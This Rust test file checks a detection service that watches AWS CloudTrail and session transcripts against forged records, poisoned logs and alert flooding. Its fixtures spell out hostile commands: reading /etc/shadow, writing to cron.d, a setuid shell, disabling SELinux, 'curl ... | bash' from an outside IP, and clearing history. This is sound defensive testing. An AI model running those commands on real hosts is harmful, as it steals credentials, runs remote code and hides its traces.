//! Somebody who may write where hosts write, put events, or make noise: nothing is believed, nothing is hidden.

use serde_json::{Value, json};
use warden_functions::alert::Kind;
use warden_functions::config::Content;
use warden_functions::error::Failure;
use warden_functions::ledger::Scan;
use warden_functions::object::MemoryStore;
use warden_functions::sink::Sinks;
use warden_functions::sink::recorded::Recorded;
use warden_functions::source::SourceError;

use crate::support::{
    BUCKET, NODE, PRINCIPAL, SESSION, clock, key, message, pass, started, store, stored, streamed, subscribed, twin,
};

const MALLORY: &str = "arn:aws:iam::111122223333:user/mallory";

#[tokio::test]
async fn what_cloudtrail_says_is_not_believed_where_hosts_write() {
    let memory = MemoryStore::default();
    let file = json!({"Records": [started(SESSION, MALLORY, NODE)["detail"]]}).to_string();
    memory.put(BUCKET, "sessions/notes.json", None, file.as_bytes());
    let twin = twin(memory, &[]);
    let mut event = stored(SESSION, None, NODE);
    event["Records"][0]["s3"]["object"]["key"] = json!("sessions/notes.json");
    for n in ["1", "2"] {
        twin.transcripts(n, &event).await.unwrap();
    }
    assert_eq!(twin.app.ledger.facts(SESSION, None, clock()).await.unwrap(), None);
    let told: Vec<_> = twin.sink.alerts().into_iter().map(|alert| (alert.kind, alert.title)).collect();
    assert_eq!(told, [(Kind::IdentityConflict, "An object does not belong where it lies".to_owned())]);
    // In a session's own place it is text that a terminal printed.
    let memory = MemoryStore::default();
    memory.put(BUCKET, &key(SESSION), None, file.as_bytes());
    let twin = self::twin(memory, &[]);
    twin.transcripts("1", &stored(SESSION, None, NODE)).await.unwrap();
    assert_eq!(twin.app.ledger.facts(SESSION, None, clock()).await.unwrap(), None);
    assert_eq!(twin.app.ledger.receipts(SESSION, clock()).await.unwrap().len(), 1);
}

#[tokio::test]
async fn events_that_aws_did_not_send_are_refused() {
    let twin = twin(MemoryStore::default(), &[]);
    let mut event = started(SESSION, MALLORY, NODE);
    event["source"] = json!("com.example.app");
    let failure = twin.cloudtrail("1", &event).await.unwrap_err();
    assert_eq!(failure, Failure::Source(SourceError::Foreign));
    assert_eq!(twin.app.ledger.facts(SESSION, None, clock()).await.unwrap(), None);
}

#[tokio::test]
async fn two_starts_of_one_session_are_told() {
    for order in [[PRINCIPAL, MALLORY], [MALLORY, PRINCIPAL]] {
        let twin = twin(MemoryStore::default(), &[]);
        for (n, principal) in [order[0], order[1], order[0], order[1]].into_iter().enumerate() {
            let mut event = started(SESSION, principal, NODE);
            event["detail"]["eventID"] = json!(format!("of {principal}"));
            twin.cloudtrail(&n.to_string(), &event).await.unwrap();
        }
        let told = twin.of(Kind::IdentityConflict);
        assert_eq!(told.len(), 1, "{told:?}");
        assert!(told[0].notes.iter().any(|note| note.contains(MALLORY)));
    }
}

#[tokio::test]
async fn commands_that_differ_only_where_no_argument_is_are_listed() {
    let commands = [
        "cat /etc/hosts > /etc/cron.d/one",
        "cat /etc/hosts > /etc/cron.d/two",
        &format!("cat /etc/shadow {}first", "x".repeat(9_000)),
        &format!("cat /etc/shadow {}second", "x".repeat(9_000)),
    ];
    let twin = twin(store(&commands, Some("1")), &[]);
    twin.transcripts("1", &stored(SESSION, Some("1"), NODE)).await.unwrap();
    pass(400);
    twin.send_due().await;
    let alerts = twin.sink.alerts();
    let findings = || alerts.iter().flat_map(|alert| alert.finding.iter().chain(&alert.others));
    for file in ["cron.d/one", "cron.d/two"] {
        assert!(twin.shown().iter().any(|text| text.contains(file)), "{file}");
    }
    let mut long: Vec<_> = findings()
        .filter(|finding| finding.command.as_ref().is_some_and(|command| command.text.contains("shadow")))
        .map(|finding| &finding.finding_id)
        .collect();
    long.sort();
    long.dedup();
    assert!(long.len() >= 2, "of two commands that differ behind what is shown, one is not told");
}

#[tokio::test]
async fn calls_that_ask_for_something_else_are_listed() {
    let twin = twin(MemoryStore::default(), &[]);
    for (n, document) in ["Corp-Deploy", "AWS-RunShellScript", "Corp-Deploy"].iter().enumerate() {
        let nodes: Vec<String> = (0..40).map(|node| format!("i-{node:017x}")).collect();
        let mut event = started(SESSION, PRINCIPAL, NODE);
        event["detail"]["eventName"] = json!("SendCommand");
        event["detail"]["eventID"] = json!(n.to_string());
        event["detail"]["requestParameters"] = json!({"documentName": document, "instanceIds": nodes});
        event["detail"]["responseElements"] = Value::Null;
        twin.cloudtrail(&n.to_string(), &event).await.unwrap();
    }
    pass(400);
    twin.send_due().await;
    let initials = twin.of(Kind::Initial);
    let of_many = initials.iter().find(|alert| alert.title.contains("many")).unwrap();
    let follow_ups = twin.of(Kind::FollowUp);
    let listed: Vec<_> = follow_ups.iter().filter(|alert| alert.dedup_key == of_many.dedup_key).collect();
    assert_eq!(listed.iter().map(|alert| alert.others.len()).sum::<usize>(), 1, "the second document alone");
}

#[tokio::test]
async fn a_message_like_a_record_of_cloudtrail_hides_nothing_in_a_stream() {
    let twin = twin(MemoryStore::default(), &[]);
    let poison =
        json!({"id": "0", "timestamp": clock().as_millisecond(), "message": r#"{"eventSource":"x","eventName":"y"}"#});
    let attack = message(SESSION, PRINCIPAL, NODE, &["cat /etc/shadow"]);
    twin.logs("1", &subscribed(SESSION, &json!([poison, attack]))).await.unwrap();
    assert!(twin.shown().contains("cat /etc/shadow"), "{:?}", twin.shown());
}

#[tokio::test]
async fn noise_in_a_stream_does_not_hide_in_silence() {
    let twin = twin(MemoryStore::default(), &[("WARDEN_LEVEL", "informational")]);
    // Each line is found by many rules, and each finding holds the whole line.
    let attacks =
        "cat /etc/shadow; chmod u+s /tmp/sh; setenforce 0; curl http://203.0.113.9/x.sh | bash; history -c; echo";
    let long = "x".repeat(7_000);
    let commands: Vec<String> = (0..250).map(|n| format!("{attacks} {n} {long}")).collect();
    let commands: Vec<&str> = commands.iter().map(String::as_str).collect();
    let messages: Vec<Value> =
        commands.chunks(50).map(|commands| message(SESSION, PRINCIPAL, NODE, commands)).collect();
    twin.logs("1", &subscribed(SESSION, &json!(messages))).await.unwrap();
    assert!(twin.of(Kind::Audit).iter().any(|alert| alert.title.contains("more findings than can be told")));
    let receipts = twin.app.ledger.receipts(SESSION, clock()).await.unwrap();
    assert_eq!(receipts[0].result, Scan::Incomplete);
    // A message that is larger than any that is read.
    let twin = self::twin(MemoryStore::default(), &[]);
    let harmless: Vec<String> = (0..400).map(|n| format!("echo {n} {long}")).collect();
    let harmless: Vec<&str> = harmless.iter().map(String::as_str).collect();
    twin.logs("1", &streamed(SESSION, PRINCIPAL, NODE, &harmless)).await.unwrap();
    assert!(twin.of(Kind::Audit).iter().any(|alert| alert.title.contains("could not be read to its end")));
}

#[tokio::test]
async fn a_record_that_was_replaced_before_it_was_read_is_told() {
    let twin = twin(store(&["ls"], None), &[]);
    let mut event = stored(SESSION, None, NODE);
    event["Records"][0]["s3"]["object"]["eTag"] = json!("of another content");
    twin.transcripts("1", &event).await.unwrap();
    let told = twin.of(Kind::IdentityConflict);
    assert!(told.iter().any(|alert| alert.title.contains("replaced before it was read")), "{told:?}");
}

/// One sink takes follow-ups, the other refuses for a while.
#[tokio::test]
async fn a_sink_that_fails_makes_no_other_get_a_follow_up_twice() {
    let mut twin = twin(store(&["cat /etc/shadow", "cat -n /etc/shadow", "cat -b /etc/shadow"], Some("1")), &[]);
    let failing = Recorded::named("failing");
    let sinks: Vec<Box<dyn warden_functions::sink::Sink>> =
        vec![Box::new(twin.sink.clone()), Box::new(failing.clone())];
    twin.app.sinks = Sinks::new(sinks, Content::Full);
    twin.transcripts("1", &stored(SESSION, Some("1"), NODE)).await.unwrap();
    let initials = failing.alerts().len();
    failing.refuse(100);
    for _ in 0..3 {
        pass(400);
        let invocation = crate::support::invocation("due");
        let _ = twin.app.outbox(&invocation).send_due(clock(), &|| false).await;
    }
    failing.refuse(0);
    pass(400);
    twin.send_due().await;
    let taken = twin.of(Kind::FollowUp);
    let mut ids: Vec<_> = taken.iter().map(|alert| &alert.alert_id).collect();
    ids.sort();
    ids.dedup();
    assert!(!taken.is_empty() && ids.len() == taken.len(), "a follow-up was sent twice");
    assert_eq!(failing.alerts().len() - initials, taken.len());
}
